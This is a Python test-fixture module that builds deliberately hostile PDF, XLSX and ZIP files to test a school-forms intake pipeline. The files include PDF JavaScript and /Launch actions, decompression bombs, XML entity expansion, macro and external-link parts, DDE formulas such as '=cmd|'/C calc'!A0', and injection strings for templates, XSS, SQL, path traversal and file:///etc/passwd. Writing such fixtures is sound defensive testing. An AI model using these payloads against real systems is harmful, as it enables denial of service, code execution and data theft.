"""Harmless files that look as bad as files can; each with the ways in which it may end."""

import base64
import io
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache, partial
from typing import Any

import openpyxl
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from pipeline.dossier.model.forms import Kind
from pipeline.forms.editions import FORMS
from tests.demo import filled
from tests.eleves import FICHES, PROTOCOLES, Values
from tests.hostile.bombs import flate_bomb
from tests.intake.containers.test_refused import REFUSED
from tests.intake.pdfs import Pdf, save
from tests.intake.test_hostile import PAGE as _PAGE
from tests.intake.test_hostile import numbered, raw_pdf, stream, with_fields
from tests.intake.workbook import classeurs

PAGE = _PAGE.format("")
PRENOM, RISQUES = (FORMS[Kind.FICHE].by_target[target].name for target in ("prenom", "risques"))
READ = "lu"
"""Read literally, as one of our forms."""

WORDS = (
    "{{7*7}}",
    "{% for x in y %}",
    "<b>gras</b><script>alert(1)</script>",
    '<img src="file:///etc/passwd">',
    '<img src="http://192.0.2.1/x.png">',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "../../../../etc/passwd",
    "%(nom)s %n {0.__class__}",
    "'; DROP TABLE dossiers;--",
    "\\input{/etc/passwd}",
)
"""What somebody may hope to see carried out."""
ODD = "Ana\u202ePERUTON\u202c\u200bïs\ufeff \u0007\u001b[31mrouge\u2066x\u2069"
"""Bidirectional overrides, zero widths, a bell and a terminal's colours."""

_PRENOM: Values = {"prenom": "../../Alix"}
"""Of dots alone, a prénom says nothing: it is asked for again."""
HOSTILE_FICHE: Values = (
    FICHES["42"]
    | _PRENOM
    | {
        "besoin.1": "\n".join(WORDS),
        "evolution": "{{7*7}} ${7*7} #{7*7}",
        "risques": '<img src="file:///etc/passwd"> <style>*{display:none}</style>',
        "auteur": '=HYPERLINK("http://192.0.2.1")',
    }
)
HOSTILE_PROTOCOLE: Values = (
    PROTOCOLES["42"]
    | _PRENOM
    | {
        "representant.nom": "{{7*7}} <i>X</i>",
        "absence_eleve": "\n".join(WORDS),
        "aide_cours_precision": "<link rel=attachment href='file:///etc/passwd'> {{ config }}",
    }
)


def _edited(content: bytes, change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    change(writer)
    return save(writer)


def _action(kind: str, **entries: str) -> DictionaryObject:
    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
    return DictionaryObject(found | {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()})


def _scripts(writer: PdfWriter) -> None:
    script = ArrayObject([TextStringObject("x"), _action("/JavaScript", JS="app.alert('SENTINELLE')")])
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): script})})
    writer.root_object[NameObject("/Names")] = names
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert('SENTINELLE')")
    writer.add_metadata({"/Title": "SENTINELLE", "/Author": "SENTINELLE", "/Keywords": "SENTINELLE"})


def _launch(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _action("/Launch", F="/bin/SENTINELLE")
    writer.add_attachment("SENTINELLE.exe", b"MZ SENTINELLE")
    page = writer.pages[0]
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): _action("/SubmitForm", F="http://192.0.2.1/"),
        }
    )
    annotations: Any = page["/Annots"]
    annotations.append(writer._add_object(link))


def _hidden_bomb(writer: PdfWriter) -> None:
    bomb = stream(flate_bomb(), "/Filter [/FlateDecode /FlateDecode]")
    reader = PdfReader(io.BytesIO(raw_pdf(["<< /Type /Catalog >>", bomb])))
    packed: Any = reader.get_object(2)
    writer.root_object[NameObject("/PieceInfo")] = writer._add_object(packed.clone(writer))


def _encrypted(content: bytes, password: str) -> bytes:
    return _edited(content, lambda writer: writer.encrypt(password, algorithm="AES-256"))


def _zip(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _with_part(content: bytes, name: str, part: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, part)
    return out.getvalue()


def _formula() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(classeurs.blank(1)))
    book.worksheets[0].cell(1, 1).value = "=cmd|'/C calc'!A0"
    return classeurs.saved(book)


def _images() -> bytes:
    huge = zlib.compress(bytes(60_000_000))
    return with_fields(
        "[]",
        stream(b"q 10 0 0 10 0 0 cm /I Do Q"),
        stream(
            huge,
            "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray "
            "/BitsPerComponent 8 /Filter /FlateDecode",
        ),
        page="/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>",
    )


JPEG = base64.b64decode("/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////")


_REFUSED = (
    "ten thousand files",
    "a bomb",
    "a bomb of gzip",
    "a name that leads out",
    "a link",
    "a password",
    "entries that overlap",
    "sizes of zip64 that are not there",
    "half a mail",
)
_BLANK_PAGES = raw_pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE])
_FOREIGN = {"abime", "autre_document", "autre_formulaire", "trop_de_pages"}


def _good() -> bytes:
    return filled(Kind.FICHE, FICHES["01"])


def _cut(tenth: int) -> bytes:
    content = _good()
    return content[: len(content) * tenth // 10]


HOSTILE: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    **{f"tronque_{tenth}.pdf": (partial(_cut, tenth), {"abime"}) for tenth in range(1, 10)},
    "vide.pdf": (lambda: b"", {"vide"}),
    "html.pdf": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", {"page_web"}),
    "zip.pdf": (lambda: _zip({"../../evil": b"x"}), {"contenant_refuse"}),
    "jpeg.pdf": (lambda: JPEG, {"photographie"}),
    "bombe_valeur.pdf": (
        lambda: with_fields(
            "[4 0 R]",
            "<< /FT /Tx /T (fiche_edition) /V 5 0 R >>",
            stream(flate_bomb(), "/Filter [/FlateDecode /FlateDecode]"),
        ),
        _FOREIGN | {"lecture_arretee"},
    ),
    "bombe_page.pdf": (
        lambda: with_fields("[]", stream(flate_bomb(), "/Filter [/FlateDecode /FlateDecode]"), page="/Contents 4 0 R"),
        _FOREIGN | {"lecture_arretee"},
    ),
    "pages_en_boucle.pdf": (
        lambda: raw_pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]),
        {"abime"},
    ),
    "parents_en_boucle.pdf": (
        lambda: with_fields(
            "[4 0 R 5 0 R]",
            "<< /T (a) /Kids [5 0 R] /Parent 5 0 R >>",
            "<< /T (b) /Kids [4 0 R] /Parent 4 0 R >>",
            page="/Annots [4 0 R 5 0 R]",
        ),
        _FOREIGN,
    ),
    "cent_mille_champs.pdf": (
        lambda: with_fields(numbered(100_000), *(f"<< /FT /Tx /T (f{n}) >>" for n in range(100_000))),
        _FOREIGN | {"lecture_arretee"},
    ),
    "profond.pdf": (lambda: with_fields("[" * 50_000 + "]" * 50_000), _FOREIGN),
    "dictionnaires_profonds.pdf": (lambda: with_fields("<< /A " * 20_000 + ">>" * 20_000), _FOREIGN),
    "xfa.pdf": (
        lambda: raw_pdf(
            [
                "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA [(template) 4 0 R] >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                PAGE,
                stream(b"<template><script>x</script></template>"),
            ]
        ),
        {"xfa"},
    ),
    "mot_de_passe.pdf": (lambda: _encrypted(_good(), "SENTINELLE"), {"mot_de_passe"}),
    "image_geante.pdf": (_images, {"numerisation", "autre_document"}),
    "javascript_seul.pdf": (lambda: _edited(_BLANK_PAGES, _scripts), {"autre_document"}),
    "lancement_seul.pdf": (
        lambda: raw_pdf(
            [
                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                PAGE,
            ]
        ),
        {"autre_document"},
    ),
    "nuls.pdf": (lambda: b"%PDF-1.7\n" + bytes(3_000_000) + b"\n%%EOF", {"abime"}),
    "million.pdf": (lambda: Pdf(filled(Kind.FICHE, FICHES["16"])).text(RISQUES, "A" * 1_000_000).save(), {READ}),
    "bidi.pdf": (
        lambda: Pdf(filled(Kind.FICHE, FICHES["14"])).text(PRENOM, ODD).text(RISQUES, "a\0b" + ODD).save(),
        {READ},
    ),
    "bombe_cachee.pdf": (
        lambda: _edited(filled(Kind.FICHE, FICHES["12"]), _hidden_bomb),
        {READ, "abime", "lecture_arretee"},
    ),
    "classeur_bombe.xlsx": (
        lambda: _with_part(classeurs.blank(1), "xl/worksheets/sheet9.xml", bytes(200_000_000)),
        {"classeur_illisible"},
    ),
    "classeur_liens.xlsx": (
        lambda: _with_part(classeurs.blank(1), "xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        {"classeur_actif"},
    ),
    "classeur_macros.xlsx": (lambda: _with_part(classeurs.blank(1), "xl/vbaProject.bin", b"macro"), {"classeur_actif"}),
    "classeur_formule.xlsx": (_formula, {"autre_classeur"}),
    "classeur_entites.xlsx": (
        lambda: _zip(
            {
                "[Content_Types].xml": b"<Types/>",
                "xl/workbook.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
            }
        ),
        {"classeur_illisible"},
    ),
    **{f"{name.replace(' ', '_')}.zip": (REFUSED[name][0], {REFUSED[name][1]}) for name in _REFUSED},
    "dix_mille_debuts.pdf": (lambda: b"%PDF-1.7\n" * 10_000 + _good(), {"octets_non_lus"}),
    "deux_dont_un_coupe.pdf": (lambda: _good() + _cut(5), {"abime"}),
    # A complete demande whose every answer and object is bait.
    "appat_fiche.pdf": (lambda: _edited(filled(Kind.FICHE, HOSTILE_FICHE), _scripts), {READ}),
    "appat_protocole.pdf": (lambda: _edited(filled(Kind.PROTOCOLE, HOSTILE_PROTOCOLE), _launch), {READ}),
}
"""Name → (what makes it, what it may become: ``READ`` or codes of diagnoses)."""


@cache
def hostile(name: str) -> bytes:
    """Return a file of ``HOSTILE``, made once."""
    return HOSTILE[name][0]()
